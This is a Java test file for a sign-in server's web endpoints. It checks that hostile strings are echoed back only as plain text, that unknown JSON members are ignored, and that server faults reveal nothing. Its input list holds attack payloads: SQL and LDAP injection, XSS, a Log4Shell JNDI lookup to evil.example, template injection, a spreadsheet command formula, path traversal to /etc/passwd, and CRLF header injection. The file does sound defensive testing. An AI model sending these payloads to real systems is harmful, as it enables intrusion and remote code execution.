package org.latchkey.server.web.signin;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/** Text that is dangerous elsewhere is only text here. */
class HostileTextTest extends StrangersTest {

  HostileTextTest(ScriptedFlow flow, @LocalServerPort int port) {
    super(flow, port);
  }

  static Stream<String> dangerousText() {
    return Stream.of(
        "",
        " ",
        "\u0000",
        "a\u0000b",
        "\u0007\u001b[31m",
        "\u200f\u202eadmin\u202c",
        "😀👩‍👩‍👧‍👦",
        "e\u0301\u0302\u0303".repeat(50),
        "' OR '1'='1'; DROP TABLE session; --",
        "*)(uid=*))(|(uid=*",
        "\\2a\\00",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a}",
        "#{7*7}{{7*7}}%s%n%x",
        "=cmd|' /C calc'!A0",
        "../../../../etc/passwd",
        "line\r\nSet-Cookie: a=b",
        "\ufffe\uffff\ufdd0");
  }

  @ParameterizedTest
  @MethodSource("dangerousText")
  void dangerousTextIsOnlyText(String text) {
    ObjectNode start = start().put("user", text);
    for (String member : List.of("version", "os", "edition", "device", "join")) {
      start.path("client").asObject().put(member, text);
    }
    JsonNode reply = accepted(START, start.toString());
    if (!text.isBlank()) {
      assertThat(reply.toString()).doesNotContain(text);
    }
    accepted(CONTINUE, answerWith(text));
    assertThat(flow.answered("code")).isEqualTo(text);
    JsonNode other = accepted(CONTINUE, answer().put("session", text).toString());
    assertThat(other.path("session").stringValue()).isEqualTo(text);
    assertThat(flow.answers.getLast().token()).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\\ud83d", "\\ude00", "\\ude00\\ud83d", "a\\udbffb"})
  void halfASurrogatePairIsNoText(String half) {
    String start = start().put("user", "HERE").toString();
    malformed(START, start.replace("HERE", half));
    malformed(START, start.replace("\"v\":1", "\"v\":1,\"" + half + "\":1"));
    malformed(CONTINUE, answerWith("HERE").replace("HERE", half));
    accepted(START, start.replace("HERE", "\\ud83d\\ude00"));
  }

  @Test
  void unknownMembersAreIgnored() {
    ObjectNode start = start();
    start.putObject("future").putArray("list").add(1).add(true).addNull();
    start.path("client").asObject().put("future", SECRET).put("__proto__", SECRET);
    accepted(START, start.toString());
    ObjectNode answer = answer();
    answer.putObject("client").put("type", "Browser");
    accepted(CONTINUE, answer.toString());
  }

  @Test
  void aFaultOfTheServerSaysNothingOfItself() {
    flow.saysWhatever(() -> {
      throw new FaultForTheTest();
    });
    HttpResponse<String> response = send(CONTINUE, body(answer()));
    assertRefused(response, 500, "failed");
    assertThat(response.body()).doesNotContain(FaultForTheTest.SECRET);
  }
}
